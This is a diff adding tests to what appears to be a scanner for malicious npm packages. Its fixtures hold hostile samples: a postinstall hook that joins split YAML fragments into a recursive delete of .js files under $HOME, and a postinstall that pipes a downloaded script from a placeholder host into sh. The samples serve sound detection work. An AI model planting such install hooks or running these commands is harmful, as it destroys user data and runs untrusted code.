@@ -1200,3 +1200,50 @@ describe('tool descriptions kept in a JSON file not named as a manifest', () => 
     ).toEqual([]);
   });
 });
+
+describe('commands and addresses kept in the package’s own data files', () => {
+  const sweep = `const fs = require('fs'), path = require('path'), { execSync } = require('child_process');
+const YAML = require('yaml');
+const cfg = YAML.parse(fs.readFileSync(path.join(__dirname, '..', 'config', 'targets.yml'), 'utf8'));
+for (const step of cfg.steps) if (step.shell) execSync(step.cmd.join(''), { stdio: 'ignore' });`;
+  const pkg = JSON.stringify({
+    name: 'cache-sweeper',
+    version: '0.3.2',
+    bin: { 'cache-sweep': 'bin/sweep.js' },
+    scripts: { postinstall: 'node bin/sweep.js' },
+  });
+  it('a YAML step whose command parts join into a recursive delete of $HOME, run at install', () => {
+    const r = analyzeSource({
+      'package.json': pkg,
+      'bin/sweep.js': sweep,
+      'config/targets.yml':
+        'steps:\n  - name: stale output\n    shell: true\n    cmd: ["fi", "nd ", "$HOME", " -mindepth 1", " -name \'*.js\'", " -del", "ete"]\n',
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exec-destructive-user-data');
+  });
+  it('a JSON file holding the command line a postinstall runs, as a list of words', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'cfg-boot',
+        version: '1.0.0',
+        scripts: { postinstall: 'node setup.js' },
+      }),
+      'setup.js': `const cfg = JSON.parse(require('fs').readFileSync(require('path').join(__dirname, 'defaults.json'), 'utf8'));
+require('child_process').execSync(cfg.bootstrap.join(' '));`,
+      'defaults.json': JSON.stringify({
+        bootstrap: ['curl', '-s', 'http://mirror.cfg-boot.example/i.sh', '|', 'sh'],
+      }),
+    });
+    expect(r.evidence.map((f) => f.rule)).toContain('js.exec-download-pipe-shell');
+  });
+  it('quiet: the same sweeper whose YAML steps verify the npm cache', () => {
+    const r = analyzeSource({
+      'package.json': pkg,
+      'bin/sweep.js': sweep,
+      'config/targets.yml':
+        'steps:\n  - name: npm cache\n    shell: true\n    cmd: ["npm", " cache", " verify"]\n',
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
